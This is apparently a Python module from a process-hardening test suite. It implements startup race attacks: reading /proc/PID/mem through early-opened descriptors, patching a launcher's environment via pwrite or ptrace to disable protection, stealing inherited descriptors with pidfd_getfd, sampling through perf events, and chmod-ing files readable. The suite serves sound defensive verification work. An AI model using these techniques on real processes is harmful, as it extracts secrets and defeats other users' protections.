"""Get access to a process while it starts, and use that access once it holds its secrets.

A descriptor stays usable for as long as the address space it was opened on exists: later hardening
does not revoke it. A program that hardens itself in main(), or in a library's constructor, is
briefly vulnerable to this, and so is a launcher that its user can read. A new exec replaces the
address space, and an execute-only image is never vulnerable. But an attacker who can write to the
launcher already controls what it starts.
"""

from __future__ import annotations

import os
import signal
import time
from collections import deque
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager, suppress

from process_hardening.policy import DEFAULT
from process_hardening.verify.attacks import perf_event_open
from process_hardening.verify.attacks.reading import (
    find_nothing_missing,
    read_descriptor,
    read_memory_file,
    read_through,
)
from process_hardening.verify.lab import kernel
from process_hardening.verify.lab.canary import VARIABLE
from process_hardening.verify.lab.start import NotReadyError
from process_hardening.verify.model import BUILT_IN, LAUNCHES, Attack, Attempt, Target, VictimHandle

_KEPT = 64
_SLICE = 0.00005
_SECONDS = 8.0
_BYPASS = f"{DEFAULT.bypass_variable}=1".encode().ljust(24, b"\0")
"""The setting that makes our launchers start a program unprotected, padded to whole words."""
_SPARED = (b"PATH=", VARIABLE.encode())

Act = Callable[[], bool]
"""Tries to get access to the stopped target; returns whether it succeeded."""


def _step_through(target: Target, act: Act) -> OSError | None:
    """Let the target start, but stop it repeatedly to call `act`. Returns the last refusal.

    The target advances in slices that are too short to miss a window: even hardened processes can
    be stopped by signals. Returns when the target is ready. Raises NotReadyError.
    """
    victim = _victim_of(target)
    before = b""
    with suppress(FileNotFoundError):  # hidepid hides the copy of the laboratory, which is hardened
        before = _read_command_line(target.pid)
    refused: OSError | None = None
    is_done = False
    deadline = time.monotonic() + _SECONDS
    victim.release()
    while not victim.is_ready(0.05 if is_done else 0.0):
        if time.monotonic() > deadline:
            raise NotReadyError("the target did not become ready")
        if is_done:
            continue
        victim.signal(signal.SIGSTOP)
        try:
            # Before its exec, the process is a copy of the laboratory and not yet the target.
            is_done = _read_command_line(target.pid) != before and act()
        except OSError as error:
            refused = error
        victim.signal(signal.SIGCONT)
        time.sleep(_SLICE)
    return refused


def _victim_of(target: Target) -> VictimHandle:
    assert target.victim is not None
    return target.victim


def _read_command_line(pid: int) -> bytes:
    with open(f"/proc/{pid}/cmdline", "rb") as file:
        return file.read()


def _launch(target: Target, act: Act, message: str, use: Callable[[Target], Attempt]) -> Attempt:
    """Act while the target starts; when it is ready, use the access gained.

    message -- the result to report, together with the refusal, if nothing leaked
    """
    refused = _step_through(target, act)
    attempt = use(_victim_of(target).target(target.folder))
    if refused is None or attempt.leaked:
        return attempt
    path = str(refused.filename).replace(f"/proc/{target.pid}/", "/proc/PID/")
    return Attempt(False, f"{path}: {refused.strerror}; {message}", refused.errno)


def open_early_read_late(target: Target) -> Attempt:
    """Open the memory file often during the start; read through each descriptor afterwards."""
    kept: deque[int] = deque()

    def keep() -> bool:
        kept.append(os.open(f"/proc/{target.pid}/mem", os.O_RDONLY))
        if len(kept) > _KEPT:
            os.close(kept.popleft())
        return False

    def read_late(ready: Target) -> Attempt:
        for fd in kept:
            with suppress(OSError):
                attempt = read_through(fd, ready)
                if attempt.leaked:
                    return attempt
        return Attempt(False, "no data came through descriptors opened earlier")

    try:
        return _launch(target, keep, "no data came through descriptors opened earlier", read_late)
    finally:
        for fd in kept:
            os.close(fd)


def sample_from_the_start(target: Target) -> Attempt:
    """Open perf events during the start, and sample when the target holds its secrets."""
    events: dict[int, int] = {}

    def open_events() -> bool:
        perf_event_open.open_inherited_events(target.pid, events)
        return True

    try:
        return _launch(
            target,
            open_events,
            "no samples through events opened earlier",
            lambda ready: perf_event_open.read_samples(events.values(), ready),
        )
    finally:
        for fd in events.values():
            os.close(fd)


def make_readable_and_open(target: Target) -> Attempt:
    """Make each file in the command line readable, then call open_early_read_late()."""
    with _readable(_victim_of(target).argv):
        return open_early_read_late(target)


@contextmanager
def _readable(paths: Sequence[str]) -> Iterator[None]:
    """Make these files readable for the duration of a block, if their modes can be changed."""
    modes: dict[str, int] = {}
    for path in paths:
        if os.path.isfile(path) and not os.access(path, os.R_OK):
            mode = os.stat(path).st_mode
            with suppress(PermissionError):
                os.chmod(path, 0o755)
                modes[path] = mode
    try:
        yield
    finally:
        for path, mode in modes.items():
            os.chmod(path, mode)


def _plant_bypass(
    pid: int, read: Callable[[int, int], bytes], write: Callable[[int, bytes], object]
) -> bool:
    """Overwrite a variable in the target's initial environment with the bypass variable.

    Returns whether there was a variable that is long enough.
    """
    with open(f"/proc/{pid}/stat", "rb") as file:
        fields = file.read().rpartition(b") ")[2].split()
    start, end = int(fields[47]), int(fields[48])  # env_start and env_end in proc(5), less 3
    entries = read(start, end - start).split(b"\0")
    at = start
    for entry in entries:
        if len(entry) >= len(_BYPASS) and not entry.startswith(_SPARED):
            write(at, _BYPASS)
            return True
        at += len(entry) + 1
    return False


def write_early_read_late(target: Target) -> Attempt:
    """Write into the launcher's memory so that the launcher starts the program unprotected."""

    def patch() -> bool:
        fd = os.open(f"/proc/{target.pid}/mem", os.O_RDWR)
        try:
            return _plant_bypass(
                target.pid,
                lambda address, length: os.pread(fd, length, address),
                lambda address, data: os.pwrite(fd, data, address),
            )
        finally:
            os.close(fd)

    return _launch(target, patch, "nothing was written", read_memory_file)


def seize_early_read_late(target: Target) -> Attempt:
    """Trace the launcher, and make it start the program unprotected."""

    def patch() -> bool:
        pid = target.pid
        kernel.ptrace(kernel.PTRACE_SEIZE, "PTRACE_SEIZE", pid)
        kernel.ptrace(kernel.PTRACE_INTERRUPT, "PTRACE_INTERRUPT", pid)
        kernel.wait_for_stop(pid)
        try:
            return _plant_bypass(
                pid,
                lambda address, length: kernel.peek(pid, address, length),
                lambda address, data: kernel.poke(pid, address, data),
            )
        finally:
            kernel.detach(pid)

    return _launch(target, patch, "it was not seized", read_memory_file)


def take_descriptor_early(target: Target) -> Attempt:
    """Duplicate the descriptor of an open file that holds a secret and that the target inherits."""
    found: list[str] = []
    pidfd = kernel.pidfd_open(target.pid)

    def take() -> bool:
        fd = kernel.pidfd_getfd(pidfd, target.descriptor or 0)
        found.extend(target.places_in(read_descriptor(fd)))
        os.close(fd)
        return True

    try:
        return _launch(
            target,
            take,
            "took no descriptor",
            lambda _: Attempt(bool(found), "took a descriptor", places=tuple(found)),
        )
    finally:
        os.close(pidfd)


_LAUNCHER = "a launcher that its user can read while it starts"
_LAUNCHED = (
    *("reexec", "execute-only", "preload", "harden-own-name", "harden-memfd", "harden-by-root"),
    *("interpreter", "interpreter-of-root"),
)
"""The victims that a launcher starts, and the victims that need no launcher."""


def _attack(
    name: str,
    summary: str,
    run: Callable[[Target], Attempt],
    *,
    command: str,
    refusal: str,
    targets: str = _LAUNCHER,
    victims: tuple[str, ...] | None = _LAUNCHED,
    inherits_secret: bool = False,
    own_victim: bool = False,
    find_missing: Callable[[], str | None] = find_nothing_missing,
) -> Attack:
    return Attack(
        name=name,
        kind=BUILT_IN,
        summary=summary,
        type="race",
        targets=targets,
        requires="the same user; with Yama, ptrace_scope 0 (or being the target's parent)",
        refusal=refusal,
        effect=LAUNCHES,
        command=command,
        find_missing=find_missing,
        run=run,
        alone=True,
        launches=2,
        inherits_secret=inherits_secret,
        own_victim=own_victim,
        victims=victims,
        timeout=30.0,
    )


ATTACKS = (
    _attack(
        "launch-window",
        "open /proc/PID/mem during start, read later",
        open_early_read_late,
        targets="a process that hardens itself after its exec",
        command='open("/proc/PID/mem") until refused; pread(ADDRESS) when ready',
        refusal="no open succeeds, or reading through the descriptors returns nothing",
        victims=None,
    ),
    _attack(
        "launch-perf",
        "open perf events during start, sample later",
        sample_from_the_start,
        targets="a process that hardens itself after its exec",
        command="perf_event_open(TASK_CLOCK, PERF_SAMPLE_STACK_USER, PID, CPU), with inherit",
        refusal="EACCES from perf_event_open, or the kernel removes the events at the exec",
        victims=None,
        own_victim=True,
        find_missing=perf_event_open.find_missing,
    ),
    _attack(
        "launch-write",
        "write into a launcher so that it protects nothing",
        write_early_read_late,
        command='open("/proc/PID/mem", O_RDWR) until refused; pwrite() the bypass variable',
        refusal="no open succeeds",
    ),
    _attack(
        "launch-seize",
        "trace a launcher and change it in the same way",
        seize_early_read_late,
        command="ptrace(PTRACE_SEIZE, PID) until refused; ptrace(PTRACE_POKEDATA) the variable",
        refusal="EPERM from PTRACE_SEIZE, or the launcher detects the tracer and exits",
    ),
    _attack(
        "launch-getfd",
        "take a secret's descriptor from a launcher",
        take_descriptor_early,
        command="pidfd_getfd(pidfd_open(PID), N) until refused",
        refusal="EPERM from pidfd_getfd",
        inherits_secret=True,
        own_victim=True,
    ),
    _attack(
        "launch-chmod",
        "make the program's file readable before it starts",
        make_readable_and_open,
        targets="a program protected only by its file mode",
        command='chmod(FILE, 0755); open("/proc/PID/mem") during start',
        refusal="EPERM from chmod, as the file belongs to another user",
        own_victim=True,
        victims=("interpreter", "interpreter-of-root"),
    ),
)
